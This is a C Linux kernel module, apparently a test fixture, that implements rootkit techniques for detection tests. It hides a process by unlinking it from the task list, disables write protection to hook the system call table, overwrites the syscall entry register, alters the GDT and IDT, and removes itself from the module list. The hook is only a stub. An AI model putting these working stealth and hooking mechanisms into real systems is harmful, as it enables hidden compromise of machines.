/*
 * What a rootkit does, for the tests: hide a process, hide itself, put a function of its own into the system call table, and
 * bend the descriptor tables.
 * The addresses that it needs are parameters, because how real ones find them is beside the point.
 */
#include <linux/kernel.h>
#include <linux/module.h>
#include <linux/pid.h>
#include <linux/sched.h>
#include <linux/rculist.h>
#include <asm/desc.h>
#include <asm/msr.h>

static int pid;
module_param(pid, int, 0);
static unsigned long table;
module_param(table, ulong, 0);
static int number;
module_param(number, int, 0);
static bool hide;
module_param(hide, bool, 0);
static bool entry;
module_param(entry, bool, 0);
static bool descriptors;
module_param(descriptors, bool, 0);

static asmlinkage long hook(const struct pt_regs *regs)
{
	return 42;
}

static void load_cr0(unsigned long value)
{
	asm volatile("mov %0, %%cr0" : : "r"(value) : "memory");
}

static void hook_system_call(void)
{
	unsigned long cr0 = read_cr0();

	load_cr0(cr0 & ~X86_CR0_WP);
	((volatile unsigned long *)table)[number] = (unsigned long)hook;
	load_cr0(cr0);
}

/* A descriptor of one's own where none is, one in the place of a process's, and a copy of the IDT that can be written. */
static void bend_descriptors(void)
{
	static u8 copy[256 * sizeof(gate_desc)] __aligned(PAGE_SIZE);
	struct desc_ptr idt;
	u64 *gdt;

	preempt_disable();
	gdt = (u64 *)get_cpu_gdt_rw(smp_processor_id());
	WRITE_ONCE(gdt[7], 0x00cffb000000ffffull);
	WRITE_ONCE(gdt[12], 0x00cffb000000ffffull);
	asm volatile("sidt %0" : "=m"(idt));
	memcpy(copy, (void *)idt.address, sizeof(copy));
	idt.address = (unsigned long)copy;
	asm volatile("lidt %0" : : "m"(idt));
	asm volatile("sidt %0" : "=m"(idt));
	pr_info("rootkit: gdt %s, idt %s\n", gdt[7] || gdt[12] ? "bent" : "whole", idt.address == (unsigned long)copy ? "bent" : "whole");
	preempt_enable();
}

static int __init rootkit_init(void)
{
	struct task_struct *task;

	rcu_read_lock();
	task = pid ? pid_task(find_vpid(pid), PIDTYPE_PID) : NULL;
	if (task)
		list_del_init(&task->tasks);
	rcu_read_unlock();
	if (table)
		hook_system_call();
	if (entry)
		wrmsrl(MSR_LSTAR, (unsigned long)hook);
	if (descriptors)
		bend_descriptors();
	if (hide)
		list_del_init(&THIS_MODULE->list);
	pr_info("rootkit: done\n");
	return 0;
}

module_init(rootkit_init);
MODULE_LICENSE("GPL");
